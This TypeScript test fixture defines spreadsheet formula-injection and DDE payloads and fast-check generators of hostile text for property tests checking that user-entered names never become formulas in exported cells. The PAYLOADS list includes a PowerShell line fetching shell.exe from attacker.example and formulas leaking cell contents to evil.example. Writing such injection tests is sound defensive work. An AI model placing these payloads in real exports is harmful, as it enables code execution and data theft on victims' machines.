/**
 * Text an attacker (or an unlucky analyst) might type as a scenario, plan, site, initiative, period
 * or month name, or put in a usage export: formula and DDE payloads, characters a spreadsheet reads
 * as the start of a formula, control characters, long strings and odd Unicode. Used by the tests
 * that check user text never becomes a formula on any path to a cell.
 */
import { fc } from "../properties/count";

/** Known payloads, each written exactly. */
export const PAYLOADS: readonly string[] = [
  "=1+1",
  "+1+1",
  "-1+1",
  "@SUM(A1:A2)",
  "=cmd|' /C calc'!A0",
  "=cmd|'/C powershell IEX(wget attacker.example/shell.exe)'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "+cmd|' /C notepad'!A0",
  "-2+3+cmd|' /C calc'!A0",
  '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")',
  '=IMPORTXML(CONCAT("http://evil.example/?v=",A1),"//a")',
  '=WEBSERVICE("http://evil.example/"&A1)',
  '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
  'DDE ("cmd";"/C calc";"!A0")A0',
  "=MSEXCEL|'\\..\\..\\..\\Windows\\System32\\cmd.exe /c calc.exe'!''",
  "\t=1+1",
  "\r=1+1",
  "\n=1+1",
  "\r\n=2+2",
  " =1+1",
  "\u00a0=1+1",
  "=1+1\n=2+2",
  "'=1+1",
  "''quoted",
  "'",
  "=",
  "+",
  "-",
  "@",
  "#N/A",
  "#REF!",
  "TRUE",
  " false ",
  "1/2",
  "00123",
  "1e5",
  "50%",
  "$1,000",
  "-5 users",
  "=1/0",
  "={1,2,3}",
  "=A1:A3",
  "=Sheet1!A1",
  '=INDIRECT("A1")',
  "\ufeff=1+1",
  "\uff1d1+1", // fullwidth equals sign
  "\u202e=1+1", // right-to-left override
  "🙂=1+1",
  "=\u0000cmd",
  "\u0007=1",
  "<script>alert(1)</script>",
  "March 2026",
];

/** The formula-start characters and whitespace a spreadsheet skips before them. */
const LEADERS = ["=", "+", "-", "@", "\t", "\r", "\n", " ", "'", "\t=", " =", "\r\n=", "=="] as const;

/** Text that looks like a formula, or anything at all, with a bounded length. */
export function hostileText(maxLength = 60): fc.Arbitrary<string> {
  return fc.oneof(
    { weight: 3, arbitrary: fc.constantFrom(...PAYLOADS) },
    { weight: 3, arbitrary: fc.tuple(fc.constantFrom(...LEADERS), fc.string({ maxLength })).map(([a, b]) => a + b) },
    { weight: 2, arbitrary: fc.tuple(fc.constantFrom(...PAYLOADS), fc.string({ maxLength: 10 })).map(([a, b]) => a + b) },
    { weight: 1, arbitrary: fc.string({ unit: "grapheme", maxLength }) },
    { weight: 1, arbitrary: fc.string({ unit: "binary", maxLength }) },
  );
}

/** A marker that makes a generated text findable wherever it lands (and in nothing the product writes itself). */
export const MARKER = "«ZQX»";

/** Hostile text ending with the marker, so a test can tell whether it reached a formula. */
export const markedText = (maxLength = 40): fc.Arbitrary<string> => hostileText(maxLength).map((t) => t + MARKER);

/**
 * Long text: a few thousand characters, and close to Excel's limit of 32,767 in a cell (leaving room
 * for the budget's "Site: Copilot users" labels, which add the line's name to a site's).
 */
export const LONG_TEXTS: readonly string[] = ["=" + "A".repeat(5000), "=cmd|' /C calc'!A0" + " ".repeat(3000) + "x", "=" + "1+".repeat(16_000) + "1"];

/** Excel's limit on the characters of a cell. */
export const EXCEL_CELL_LIMIT = 32_767;
